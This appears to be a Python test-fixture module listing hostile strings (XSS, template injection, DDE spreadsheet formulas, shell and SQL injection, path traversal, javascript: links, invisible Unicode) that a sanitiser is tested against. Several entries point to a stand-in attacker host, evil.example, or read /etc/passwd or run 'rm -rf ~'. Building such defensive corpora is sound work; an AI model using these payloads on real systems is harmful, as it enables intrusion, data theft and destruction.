"""Texts that an attacker, or an unlucky editor, could type into any field."""

from __future__ import annotations

from dataclasses import dataclass
from enum import StrEnum


class Refused(StrEnum):
    """Where check refuses a text; everywhere else it must come out as typed, and do nothing."""

    NOWHERE = "nowhere"
    PROSE = "in fields that may hold links"
    ALWAYS = "always"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One hostile text; `name` is how a failing test calls it."""

    name: str
    text: str
    refused: Refused = Refused.NOWHERE

    def __str__(self) -> str:
        return self.name


_INERT = {
    # HTML that runs.
    "script": "<script>alert(document.domain)</script>",
    "script closed oddly": "<script>alert(1)</script\t\n bar>",
    "script in capitals": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script inside script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script with a slash": "<script/x>alert(1)</script>",
    "handler": "<img src=x onerror=alert(1)>",
    "handler without quotes or end": "<img src=x onerror=alert(1)//",
    "handler in capitals": '<IMG SRC="x" ONERROR="alert(1)">',
    "handler on a block": '<div onmouseover="alert(1)" markdown>\n\nwords\n\n</div>',
    "handler on details": "<details open ontoggle=alert(1)>",
    "handler on body": "<body onload=alert(1)>",
    "closing the article": "</p></article></main><h1>Seized</h1>",
    "closing the title": "</title><script>alert(1)</script>",
    "closing an attribute": '"><svg onload=alert(1)>',
    "closing an attribute, single": "' onfocus='alert(1)' autofocus='",
    "closing a text area": "</textarea></style></noscript><script>alert(1)</script>",
    "frame": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="data:text/html,<script>alert(1)</script>"></object>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name=password>',
    "svg": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:alert(1)"><text y=20>go</text></a></svg>',
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "template": "<template><script>alert(1)</script></template>",
    "style": "<style>@import url(https://evil.example/x.css);</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">words</p>',
    "css expression": "expression(alert(1)); } body { display: none } /* */",
    "comment": "<!-- hidden --> shown <!-- toolkits:sectors -->",
    "comment that closes early": "<!--><script>alert(1)</script>-->",
    "conditional comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "doctype": '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;',
    "processing instruction": "<?php system('id'); ?><?xml version='1.0'?>",
    "server side include": '<!--#include virtual="/etc/passwd" -->',
    "markdown in html": '<div markdown="1">**bold**</div>',
    "unclosed tag": "words <b",
    "an angle before a letter": "a<b and c>d <3 <- ->",
    # Entities and encodings.
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;lt; &#60; &#x3c;",
    "entity without an end": "&ltscript&gt &#60script &copy 2 &nbsp",
    "unknown entity": "&xxe; %xxe; &#0; &#1114112;",
    "percent": "%3Cscript%3Ealert(1)%3C/script%3E %0d%0aSet-Cookie: a=b%00",
    "unicode escapes": r"\u003cscript\u003e \x3c \74 \' \"",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "overlong words": "x" * 2 + "W" * 70,
    # Links that Markdown knows and we do not.
    "link without a scheme": "javascript:alert(1) data:text/html,x vbscript:msgbox(1)",
    "picture by reference": "![words][evil] and [evil]",
    "reference definition": "[evil]: javascript:alert(1) 'title'",
    "reference definition, indented": "   [evil]: <javascript:alert(1)>",
    "reference used": "[words][evil] [evil][] [evil]",
    "autolink": "<javascript:alert(1)> <https://evil.example/> <a@evil.example>",
    "bare address": "https://evil.example/a_b?c=d&e=f#g www.evil.example a@evil.example",
    "wiki link": "[[Every action]] [[index|words]]",
    # Marks of Markdown and its many extensions.
    "headings": "# One ## Two #hash #1",
    "setext heading": "words\n===\nmore\n---",
    "rule": "--- *** ___",
    "list": "- item - item\n* item\n+ item\n1. item\n2) item",
    "ordered by a number": "2024. was a good year",
    "quotation": "> said > twice",
    "emphasis": "*one* __two__ ***three*** _four_ ~~five~~ ^six^ ~seven~",
    "highlight and critic marks": "==high== {++add++} {--cut--} {~~a~>b~~} {>>note<<} {==x==}",
    "keys": "++ctrl+alt+delete++ ||ctrl||",
    "code": "`code` ``co`de`` ```fence``` ~~~",
    "code fence": "```python\nimport os\n```",
    "inline code with a language": "`#!python print(1)` `:::js alert(1)`",
    "code by indent": "    four spaces first",
    "table": "| a | b |\n| --- | --- |\n| c | d |",
    "a row ends": "one | two \\| three || four",
    "task list": "[ ] open [x] done - [ ] both",
    "definition": "Term\n:   meaning",
    "footnote": "[^1] words [^note]: a note",
    "abbreviation": "*[HTML]: Hyper Text",
    "admonition": '!!! danger "Title"',
    "foldable admonition": '??? note "Title" ???+ tip',
    "tab": '=== "Tab"',
    "attribute list": "words {: onclick=alert(1) }",
    "attribute list, alone": '{: #main .tk-hidden style="display:none" }',
    "attribute list without a colon": '{ onclick="alert(1)" }',
    "attribute list of a heading": "words {#hos-rec-01 .evil data-x=y}",
    "snippet": '--8<-- "/etc/passwd"',
    "snippet block": "--8<--\n../../mkdocs.yml\n--8<--",
    "include": "{% include '/etc/passwd' %} {!/etc/passwd!}",
    "expression": "{{ config }} {{ 7*7 }} {{ ''.__class__.__mro__ }}",
    "template statement": "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}",
    "template comment": "{# gone #} {## gone too ##} {#- gone -#}",
    "template raw": "{% raw %}{{ x }}{% endraw %}",
    "other templates": "${x*y} #{x*y} <%= x*y %> [[x*y]] @{x} *{x}",
    "emoji short code": ":smile: :material-account: :fontawesome-brands-github:",
    "mathematics": r"$x^2$ $$y$$ \(z\) \[w\] \begin{x}",
    "front matter": "--- title: Seized ---\n---\ntitle: Seized\n---",
    "front matter, other": "+++\ntitle = 'x'\n+++ ;;; ...",
    "table of contents": "[TOC] [toc] [[_TOC_]]",
    "marker": "<!-- toolkits:changes -->",
    "escapes": r"back\slash \* \\ \` \{ end\\",
    "ends in a backslash": "words \\",
    "two spaces": "one  two   three",
    "placeholder of the parser": "\u0394 wzxhzdk:0 klzzwxh:0000 stx etx amp",
    "smart marks": "(c) (tm) ... -- --- << >> 'x' \"y\"",
    # Spreadsheets.
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "formula with dde": "=cmd|' /C calc'!A0",
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-1+1|calc!A0",
    "formula by at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula behind a quote": "'=1+1",
    "formula array": "{=SUM(A1:A2)}",
    "separators": 'one;two,three"four""five"',
    "field codes": '{ INCLUDETEXT /etc/passwd } &P &N &L &"Arial"',
    # Typst, XML, shells, databases.
    "typst code": '#read("/etc/passwd") #eval("1+1") #include "x.typ" #panic()',
    "typst marks": "*strong* _emph_ `raw` $x^2$ = Heading / Term: x + enum <label> @label ~ --",
    "typst escapes": r"\u{1F600} \# // comment /* comment */ https://evil.example/ #let x = 1;",
    "xml": '<w:p><w:r><w:t>x</w:t></w:r></w:p> ]]> <?xml?> xml:space="preserve"',
    "office escape": "_x000D_ _x0041_ _x003C_",
    "shell": "$(id) `id` ; rm -rf ~ | cat && true > /tmp/x",
    "sql": "'; DROP TABLE actions; --",
    "path": "../../../../etc/passwd C:\\Windows\\win.ini \\\\evil\\share file:///etc/passwd",
    "json": '"}]}; alert(1); //',
    "python": "%(x)s %s {0} {x.__class__} f'{x}'",
    "pdf": "%PDF-1.7 /JS (app.alert(1)) endobj stream",
    # Letters.
    "homoglyphs": "\u0430\u0440\u0440\u04cf\u0435.com \u2039script\u203a \u2024\u2215",
    "accents": "Z\u0301a\u0335l\u0338g\u0323o\u0334 e\u0301 \u00e9 \u1e9b\u0323 \ufb01",
    "other scripts": "\u0634\u0643\u0631\u0627 \u05e9\u05dc\u05d5\u05dd \u0416\u0438\u0432\u043e",
    "emoji": "\U0001f642 \u2764\ufe0f \u00a9 \u00ae \u2122",
    "quotes": "'single' \"double\" \u2018curly\u2019 \u201cdouble\u201d \u00abguillemets\u00bb",
    "ligatures across": "\ufb03 \u01c6 \ufdfa \u2126 \u212b",
}
_LINKS = {
    "javascript link": "[words](javascript:alert(1))",
    "javascript link in capitals": "[words](JaVaScRiPt:alert(1))",
    "javascript link by entity": "[words](&#106;avascript:alert(1))",
    "javascript link by named entity": "[words](javascript&colon;alert(1))",
    "javascript link by percent": "[words](javascript%3Aalert(1))",
    "javascript link in angles": "[words](<javascript:alert(1)>)",
    "javascript link with a title": '[words](javascript:alert(1) "title")',
    "javascript link, spaces before": "[words]( javascript:alert(1))",
    "javascript link after https": "[words](https://evil.example@javascript:alert(1))",
    "javascript link with a tab": "[words](java\tscript:alert(1))",
    "javascript link over two lines": "[words](java\nscript:alert(1))",
    "javascript picture": "![words](javascript:alert(1))",
    "view-source link": "[words](view-source:javascript:alert(1))",
    "blob link": "[words](blob:https://evil.example/x)",
    "data link": "[words](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript link": "[words](vbscript:msgbox(1))",
    "file link": "[words](file:///etc/passwd)",
    "http link": "[words](http://evil.example/)",
    "link without a scheme of its own": "[words](//evil.example/)",
    "link with backslashes": "[words](\\\\evil.example\\x)",
    "link with a user": "[words](https://bank.example@evil.example/)",
    "link that leaves its attribute": '[words](https://evil.example/"onclick="alert(1))',
    "mailto with headers": "[words](mailto:a@evil.example?bcc=b@evil.example)",
    "mailto with a script": "[words](mailto:javascript:alert(1)@evil.example/)",
    "path out of the site": "[words](/../../etc/passwd)",
    "half a link": "[words](https://evil.example/",
    "half a citation": "words [@",
    "an unknown citation": "words [@no-such-source]",
}
_NEVER = {
    "brackets of full width": "\uff1cscript\uff1e \ufe64b\ufe65",
    # What no font of the printed checklists has, and spaces that are none.
    "formula, full width": "\uff1d1+1 \uff0b \uff20",
    "homoglyphs, full width": "\u0430\u0440\u0440\u04cf\u0435.com \uff1cscript\uff1e \u2236",
    "full width link": "\uff3bx\uff3d\uff08javascript\uff1aalert\uff081\uff09\uff09",
    "no-break spaces": "one\u00a0two\u202fthree\u2009four\u3000five",
    "link with a full-width host": "[words](https://evil\uff0eexample/)",
    # What nobody could see.
    "right to left": "safe\u202egnp.exe",
    "isolate": "\u2066words\u2069",
    "mark of direction": "words\u200f",
    "zero width": "wo\u200brds",
    "zero width joiner": "java\u200dscript",
    "byte order mark": "\ufeffwords",
    "invisible letters": "x\u034fy",
    "letters without a shape": "z\u2800\u3164",
    "tags of Unicode": "x\U000e0041\U000e007f y",
    "variation selectors": "a\U000e0100",
    "private letters": "a\ue000",
    "soft hyphen": "wo\u00adrds",
    "null": "wo\x00rds",
    "bell": "wo\x07rds",
    "escape sequence": "\x1b[31mred\x1b[0m",
    "next line": "wo\x85rds",
    "delete": "wo\x7frds",
    "line separator": "wo\u2028rds",
    "no character": "wo\uffferds",
}
CORPUS = (
    *(Hostile(name, text) for name, text in _INERT.items()),
    *(Hostile(name, text, Refused.PROSE) for name, text in _LINKS.items()),
    *(Hostile(name, text, Refused.ALWAYS) for name, text in _NEVER.items()),
)
